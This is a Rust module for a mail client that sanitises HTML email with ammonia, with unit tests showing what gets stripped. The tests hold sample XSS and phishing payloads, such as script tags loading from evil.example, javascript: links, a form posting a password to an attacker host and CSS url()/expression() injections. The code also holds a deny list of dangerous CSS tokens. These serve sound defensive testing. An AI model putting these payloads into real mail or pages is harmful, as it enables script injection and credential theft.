//! HTML mail made safe to show: ammonia's allow-list, tightened for mail. This is the first
//! wall; the app's frame is the second (sandboxed, a CSP that blocks remote loads until the
//! user allows them for the message).
//!
//! What survives: text formatting, tables, lists, links to http/https/mailto (with
//! `rel="noopener noreferrer"`, no `target`), images from http/https (counted: the frame
//! blocks them until allowed) or inline `data:image/...` (not SVG), and inline `style`
//! attributes limited to properties that cannot fetch anything. Everything that runs,
//! submits, embeds, redirects or rebases is gone: script, style and link elements, event
//! handlers, forms and their controls, frames, objects, SVG, MathML, `<base>`, `<meta>`,
//! `background` attributes, relative URLs (they would resolve against the app).

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;

/// Sanitised HTML and how many remote images it still refers to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sanitized {
    pub html: String,
    pub remote_images: u32,
}

/// Elements dropped together with everything inside them: their content is code, styling,
/// a nested document or a form control's data, never text for the reader.
const DROP_WITH_CONTENT: &[&str] = &[
    "script", "style", "title", "template", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "noembed",
    "noframes", "textarea", "select", "option", "button", "audio", "video", "canvas", "head",
];

/// Elements kept beyond ammonia's default set: what mail layouts use.
const EXTRA_TAGS: &[&str] = &["font", "tfoot"];

/// CSS properties allowed in `style` attributes: layout, text and colour, none of which
/// takes a URL. Left out on purpose: `background` and `background-image` (url()),
/// `list-style` and `list-style-image`, `border-image*`, `content`, `cursor`, `mask*`,
/// `filter`, `clip-path`, `shape-outside` (all may fetch), `position` (overlays).
const STYLE_PROPERTIES: &[&str] = &[
    "color",
    "background-color",
    "font",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "font-variant",
    "text-align",
    "text-decoration",
    "text-transform",
    "text-indent",
    "line-height",
    "letter-spacing",
    "word-spacing",
    "white-space",
    "word-break",
    "overflow-wrap",
    "vertical-align",
    "direction",
    "margin",
    "margin-top",
    "margin-right",
    "margin-bottom",
    "margin-left",
    "padding",
    "padding-top",
    "padding-right",
    "padding-bottom",
    "padding-left",
    "border",
    "border-top",
    "border-right",
    "border-bottom",
    "border-left",
    "border-color",
    "border-style",
    "border-width",
    "border-radius",
    "border-collapse",
    "border-spacing",
    "width",
    "height",
    "min-width",
    "max-width",
    "min-height",
    "max-height",
    "display",
    "float",
    "clear",
    "table-layout",
    "list-style-type",
    "text-overflow",
    "overflow",
];

/// Layout attributes of mail tables (none takes a URL; `background` is not among them).
const TABLE_ATTRIBUTES: &[&str] = &["width", "height", "bgcolor", "valign", "border", "cellpadding", "cellspacing"];

/// Sanitises one HTML body.
pub fn sanitize_html(html: &str) -> Sanitized {
    let remote = Arc::new(AtomicU32::new(0));
    let counter = Arc::clone(&remote);
    let mut builder = ammonia::Builder::default();
    builder
        .add_tags(EXTRA_TAGS)
        .clean_content_tags(DROP_WITH_CONTENT.iter().copied().collect())
        .add_generic_attributes(["style", "dir"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .add_tag_attributes("img", ["border"])
        .add_tag_attributes("p", ["align"])
        .add_tag_attributes("div", ["align"])
        .filter_style_properties(STYLE_PROPERTIES.iter().copied().collect())
        // Schemes for every URL attribute; each attribute is narrowed further below.
        .url_schemes(["http", "https", "mailto", "data"].into_iter().collect::<HashSet<_>>())
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true)
        .attribute_filter(move |element, attribute, value| filter_attribute(element, attribute, value, &counter));
    let mut table_attributes: HashMap<&str, HashSet<&str>> = HashMap::new();
    for tag in ["table", "td", "th", "tr", "tbody", "thead", "tfoot"] {
        table_attributes.insert(tag, TABLE_ATTRIBUTES.iter().copied().collect());
    }
    for (tag, attrs) in table_attributes {
        builder.add_tag_attributes(tag, attrs);
    }
    let html = builder.clean(html).to_string();
    Sanitized { html, remote_images: remote.load(Ordering::Relaxed) }
}

/// The per-attribute rules ammonia's scheme list cannot express: links only to
/// http/https/mailto, images only from http/https (counted) or `data:image/` other than SVG,
/// and no style value that could still reach out (`url(`, `image-set(`, `expression(`,
/// `@import`, or CSS escapes that could spell them).
fn filter_attribute<'u>(element: &str, attribute: &str, value: &'u str, remote: &AtomicU32) -> Option<Cow<'u, str>> {
    let lower = value.trim().to_ascii_lowercase();
    match (element, attribute) {
        ("a", "href") => {
            (lower.starts_with("http://") || lower.starts_with("https://") || lower.starts_with("mailto:")).then_some(value.into())
        }
        ("img", "src") => {
            if lower.starts_with("http://") || lower.starts_with("https://") {
                remote.fetch_add(1, Ordering::Relaxed);
                Some(value.into())
            } else if lower.starts_with("data:image/") && !lower.starts_with("data:image/svg") {
                Some(value.into())
            } else {
                None
            }
        }
        (_, "style") => {
            let dangerous = ["url(", "image-set(", "image(", "expression(", "@import", "\\", "javascript:", "behavior", "-moz-binding"];
            (!dangerous.iter().any(|d| lower.contains(d))).then_some(value.into())
        }
        // Any other URL-bearing attribute (cite, ...) may not carry data: URLs.
        (_, "cite") => (lower.starts_with("http://") || lower.starts_with("https://")).then_some(value.into()),
        _ => Some(value.into()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        sanitize_html(html).html
    }

    fn assert_absent(out: &str, needles: &[&str]) {
        let lower = out.to_ascii_lowercase();
        for n in needles {
            assert!(!lower.contains(n), "{n:?} survived in {out:?}");
        }
    }

    #[test]
    fn scripts_and_their_text_are_gone() {
        let out = clean("<p>hi</p><script>alert(1)</script><SCRIPT src=//evil.example/x.js></SCRIPT><noscript><p>no</p></noscript>");
        assert_absent(&out, &["<script", "alert", "evil.example"]);
        assert!(out.contains("<p>hi</p>"), "{out}");
    }

    #[test]
    fn event_handlers_are_gone() {
        let out = clean(
            r#"<img src="x" onerror="alert(1)"><body onload="steal()"><p onclick="x()" onmouseover="y()">t</p><a href="https://a.example" onfocus="z()">l</a>"#,
        );
        assert_absent(&out, &["onerror", "onload", "onclick", "onmouseover", "onfocus", "alert", "steal"]);
    }

    #[test]
    fn links_keep_only_http_https_and_mailto() {
        let out = clean(
            r#"<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(2)">b</a><a href="data:text/html,<script>alert(3)</script>">c</a>
               <a href="vbscript:x">d</a><a href="file:///etc/passwd">e</a><a href="/relative">f</a>
               <a href="https://ok.example/p" target="_top">g</a><a href="mailto:a@b.example">h</a>"#,
        );
        assert_absent(&out, &["javascript", "alert", "data:", "vbscript", "file:", "/relative", "target"]);
        assert!(out.contains(r#"<a href="https://ok.example/p" rel="noopener noreferrer">g</a>"#), "{out}");
        assert!(out.contains(r#"href="mailto:a@b.example""#), "{out}");
    }

    #[test]
    fn forms_and_controls_are_gone() {
        let out = clean(
            r#"<form action="https://evil.example/steal" method="post"><p>Password:</p><input name="pw" type="password"><button formaction="https://evil.example">Go</button><textarea>x</textarea><select><option>o</option></select></form>"#,
        );
        assert_absent(&out, &["<form", "<input", "<button", "<textarea", "<select", "evil.example", "action"]);
        assert!(out.contains("Password:"), "{out}");
    }

    #[test]
    fn frames_objects_and_embeds_are_gone() {
        let out = clean(
            r#"<iframe src="https://evil.example/f"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><frameset><frame src="x"></frameset><applet code="x"></applet>"#,
        );
        assert_absent(&out, &["<iframe", "<object", "<embed", "<frame", "<applet", "evil.example"]);
    }

    #[test]
    fn svg_and_math_with_scripts_are_gone() {
        let out = clean(
            r#"<svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i.png"/><foreignObject><p>x</p></foreignObject></svg><math><mtext><script>alert(3)</script></mtext></math><p>after</p>"#,
        );
        assert_absent(&out, &["<svg", "<script", "alert", "evil.example", "<math", "foreignobject"]);
        assert!(out.contains("after"), "{out}");
    }

    #[test]
    fn meta_refresh_base_and_link_are_gone() {
        let out = clean(
            r#"<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><a href="https://ok.example/">ok</a>"#,
        );
        assert_absent(&out, &["<meta", "refresh", "<base", "<link", "evil.example"]);
    }

    #[test]
    fn style_elements_and_fetching_css_are_gone() {
        let out = clean(
            r#"<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b) }</style>
               <p style="color: red; background-image: url(https://evil.example/c)">one</p>
               <p style="background: url('https://evil.example/d') red">two</p>
               <p style="list-style-image: url(https://evil.example/e); cursor: url(https://evil.example/f), auto; content: url(https://evil.example/g)">three</p>
               <div style="color: blue; width: expression(alert(1))">four</div>
               <div style="color: \75 rl(https://evil.example/h)">five</div>
               <td background="https://evil.example/bg.png">six</td>
               <p style="font-weight: bold; color: green">seven</p>"#,
        );
        assert_absent(
            &out,
            &["<style", "@import", "url(", "evil.example", "expression", "background=", "background-image", "cursor", "content:"],
        );
        // A style with anything that could fetch goes whole; a harmless one keeps its allowed
        // properties.
        assert!(out.contains(r#"<p style="font-weight:bold;color:green">seven</p>"#), "{out}");
        assert_eq!(clean(r#"<p style="color: red; position: fixed; top: 0">x</p>"#), r#"<p style="color:red">x</p>"#);
        for word in ["one", "two", "three", "four", "five", "six", "seven"] {
            assert!(out.contains(word), "{word} lost: {out}");
        }
    }

    #[test]
    fn data_urls_only_as_raster_images() {
        let out = clean(
            r#"<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"><img src="data:text/html,hi">"#,
        );
        assert_absent(&out, &["data:text", "svg"]);
        assert!(out.contains(r#"src="data:image/png;base64,iVBORw0KGgo=""#), "{out}");
        assert_eq!(sanitize_html(r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#).remote_images, 0);
    }

    #[test]
    fn remote_images_are_kept_and_counted() {
        let s = sanitize_html(
            r#"<img src="https://tracker.example/p.gif" width="1" height="1"><img src="http://cdn.example/logo.png"><img src="cid:part1@x"><img src="/rel.png"><img srcset="https://evil.example/2x.png 2x">"#,
        );
        assert_eq!(s.remote_images, 2, "{}", s.html);
        assert!(s.html.contains("https://tracker.example/p.gif"), "{}", s.html);
        assert_absent(&s.html, &["cid:", "/rel.png", "srcset", "evil.example"]);
    }

    #[test]
    fn mail_layout_survives() {
        let out = clean(
            r##"<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td valign="top" style="padding: 8px"><font color="#333" face="Arial">Hello <b>there</b></font></td></tr></table>"##,
        );
        assert!(out.contains(r#"width="600""#), "{out}");
        assert!(out.contains(r##"<font color="#333" face="Arial">"##), "{out}");
        assert!(out.contains("padding:8px"), "{out}");
    }
}
